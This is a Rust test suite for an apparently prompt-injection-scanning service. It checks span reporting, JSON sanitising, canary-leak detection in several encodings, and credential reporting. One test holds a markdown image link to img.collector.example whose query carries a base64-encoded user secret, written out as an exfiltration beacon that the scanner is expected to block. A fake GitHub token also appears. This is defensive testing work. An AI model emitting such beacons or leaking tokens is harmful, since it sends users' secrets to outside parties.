//! Findings: which bytes carry an attack, what the rules beside the model see, and texts without it.

use crate::common::{ATTACK, HARMLESS, TestServer, long_text, request, segment, with_content};
use portcullis::grpc::v1::segment::Content;
use portcullis::grpc::v1::{
    AnalyzeOptions, AnalyzeResponse, Category, Finding, Sanitize, Segment, Source, Verdict, sanitized_segment,
};
use tonic::Code;

async fn analyze(server: &TestServer, segments: Vec<Segment>, options: AnalyzeOptions) -> AnalyzeResponse {
    let mut message = request(segments);
    message.options = Some(options);
    server.client().analyze(message).await.unwrap().into_inner()
}

fn by_rules(response: &AnalyzeResponse) -> Vec<&Finding> {
    response.findings.iter().filter(|finding| finding.detector != "classifier").collect()
}

fn sanitizing(sanitize: Sanitize) -> AnalyzeOptions {
    AnalyzeOptions { sanitize: sanitize.into(), ..Default::default() }
}

/// The sanitised text of the only segment that was changed.
fn sanitized_text(response: &AnalyzeResponse) -> &str {
    match response.sanitized.as_slice() {
        [segment] => match segment.content.as_ref().unwrap() {
            sanitized_segment::Content::Text(text) => text,
            sanitized_segment::Content::Bytes(_) => panic!("bytes for a text"),
        },
        _ => panic!("{response:?}"),
    }
}

#[tokio::test]
async fn spans_lie_in_the_sentences_that_are_found_without_them() {
    let server = TestServer::start("").await;
    let text = format!("{}{ATTACK}\n\n{}", long_text(900), long_text(900));
    let segments = || vec![segment(Source::ToolOutput, text.clone())];
    let sentences = analyze(&server, segments(), AnalyzeOptions::default()).await;
    let spans = analyze(&server, segments(), AnalyzeOptions { spans: true, ..Default::default() }).await;
    assert_eq!(spans.scores, sentences.scores);
    assert!(!spans.findings.is_empty());
    for span in &spans.findings {
        let is_inside = |sentence: &&Finding| {
            sentence.category == span.category
                && sentence.start_byte <= span.start_byte
                && span.end_byte <= sentence.end_byte
        };
        assert!(sentences.findings.iter().any(|sentence| is_inside(&sentence)), "{span:?} {sentences:?}");
        assert!(text.get(span.start_byte as usize..span.end_byte as usize).is_some(), "{span:?}");
    }
}

#[tokio::test]
async fn sanitised_json_is_json_without_the_attack_and_otherwise_the_same() {
    let server = TestServer::start("").await;
    let value = format!("The build passed.\\n{ATTACK}\\nThanks, \\u0041nna");
    let json = format!("{{\"id\": 7, \"notes\": [\"ok\", \"{value}\"], \"done\": true}}");
    for (sanitize, mask) in [(Sanitize::Cut, ""), (Sanitize::Mask, "[removed]")] {
        let content = with_content(Source::ToolOutput, Content::Json(json.clone()));
        let response = analyze(&server, vec![content], sanitizing(sanitize)).await;
        let done = sanitized_text(&response);
        assert!(!done.contains(ATTACK), "{done}");
        assert_eq!(mask.is_empty(), !done.contains("[removed]"), "{done}");
        let parsed: serde_json::Value = serde_json::from_str(done).unwrap();
        assert_eq!((&parsed["id"], &parsed["notes"][0], &parsed["done"]), (&7.into(), &"ok".into(), &true.into()));
        assert!(
            done.starts_with("{\"id\": 7, \"notes\": [\"ok\", \"") && done.ends_with("\"], \"done\": true}"),
            "{done}"
        );
    }
}

#[tokio::test]
async fn what_is_harmless_is_not_given_back() {
    let server = TestServer::start("").await;
    let segments = vec![segment(Source::UserPrompt, HARMLESS), segment(Source::ToolOutput, ATTACK)];
    let response = analyze(&server, segments.clone(), sanitizing(Sanitize::Cut)).await;
    assert_eq!(response.sanitized.iter().map(|segment| segment.segment_index).collect::<Vec<_>>(), [1]);
    let response = analyze(&server, segments, AnalyzeOptions::default()).await;
    assert!(response.sanitized.is_empty());
}

#[tokio::test]
async fn a_leaked_canary_is_blocked_in_any_spelling() {
    let server = TestServer::start("").await;
    let canary = "zephyr-4471-quill";
    let options = || AnalyzeOptions { canaries: vec![canary.to_owned()], ..Default::default() };
    for spelling in ["zephyr-4471-quill", "ZEPHYR 4471 QUILL", "lliuq-1744-ryhpez", "emVwaHlyLTQ0NzEtcXVpbGw="] {
        let text = format!("Here you are: {spelling}. Anything else?");
        let response = analyze(&server, vec![segment(Source::ModelOutput, text.clone())], options()).await;
        assert_eq!(response.verdict(), Verdict::Block, "{spelling}: {response:?}");
        let finding = by_rules(&response)[0];
        assert_eq!(finding.category(), Category::Exfiltration);
        let found = &text[finding.start_byte as usize..finding.end_byte as usize];
        assert!(spelling.starts_with(found) && found.len() + 2 >= spelling.len(), "{found} of {spelling}");
    }
    let response = analyze(&server, vec![segment(Source::ModelOutput, "Nothing leaks here.")], options()).await;
    assert!(by_rules(&response).is_empty(), "{response:?}");
}

#[tokio::test]
async fn a_beacon_in_an_answer_is_blocked_and_cut() {
    let server = TestServer::start("").await;
    let beacon = "![logo](https://img.collector.example/p.png?d=c2VjcmV0IHRva2VuIG9mIHRoZSB1c2VyIDQyODE3)";
    let text = format!("The tests pass now.\n\n{beacon}\n");
    let response = analyze(&server, vec![segment(Source::ModelOutput, text)], sanitizing(Sanitize::Cut)).await;
    assert_eq!(response.verdict(), Verdict::Block, "{response:?}");
    assert!(by_rules(&response).iter().any(|finding| finding.verdict() == Verdict::Block), "{response:?}");
    assert!(!sanitized_text(&response).contains("collector.example"), "{response:?}");
}

#[tokio::test]
async fn a_credential_in_a_prompt_is_reported_and_let_pass() {
    let server = TestServer::start("").await;
    let key = ["ghp_", "w8Jq2LrT5vXz9BnK3mYd7FhGpS4cA0", "3hJ1Wq"].concat();
    let text = format!("Why does the clone fail with {key} in CI?");
    let response = analyze(&server, vec![segment(Source::UserPrompt, text)], AnalyzeOptions::default()).await;
    for finding in by_rules(&response) {
        assert_eq!(finding.verdict(), Verdict::Allow, "{response:?}");
    }
}

#[tokio::test]
async fn wrong_options_are_named() {
    let server = TestServer::start("").await;
    let mut message = request(vec![segment(Source::UserPrompt, HARMLESS)]);
    message.options =
        Some(AnalyzeOptions { sanitize: 9, canaries: vec![String::new(), "x".repeat(2000)], ..Default::default() });
    let status = server.client().analyze(message).await.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    let details = tonic_types::StatusExt::get_error_details(&status);
    let fields: Vec<_> =
        details.bad_request().unwrap().field_violations.iter().map(|violation| violation.field.as_str()).collect();
    assert_eq!(fields, ["options.sanitize", "options.canaries[0]", "options.canaries[1]"]);
}
